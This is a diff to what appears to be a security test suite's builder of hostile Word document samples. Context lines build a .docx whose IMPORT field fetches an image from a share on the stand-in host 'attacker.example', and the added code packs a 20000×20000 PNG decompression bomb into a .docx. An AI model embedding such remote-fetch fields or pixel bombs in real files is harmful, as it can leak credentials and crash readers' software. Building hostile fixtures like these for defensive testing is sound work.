@@ -1065,3 +1065,17 @@ def docx_macrobutton_builtin(work: Path) -> bytes:
 @sample("docx_import_field", ".docx", "remote-field", "IMPORT (legacy INCLUDEPICTURE) from a share")
 def docx_import_field(work: Path) -> bytes:
     return _word_with(_simple_field('IMPORT "\\\\\\\\attacker.example\\\\s\\\\p.png"'))
+
+
+@sample(
+    "docx_picture_pixel_bomb",
+    ".docx",
+    "bomb",
+    "a picture part that is a 20000×20000 PNG (pixel bomb inside a package)",
+)
+def docx_picture_pixel_bomb(work: Path) -> bytes:
+    from tests.attacks.builders.images import png_decompression_bomb
+
+    package = _docx()
+    package.put("word/media/image1.png", png_decompression_bomb(work))
+    return package.bytes()
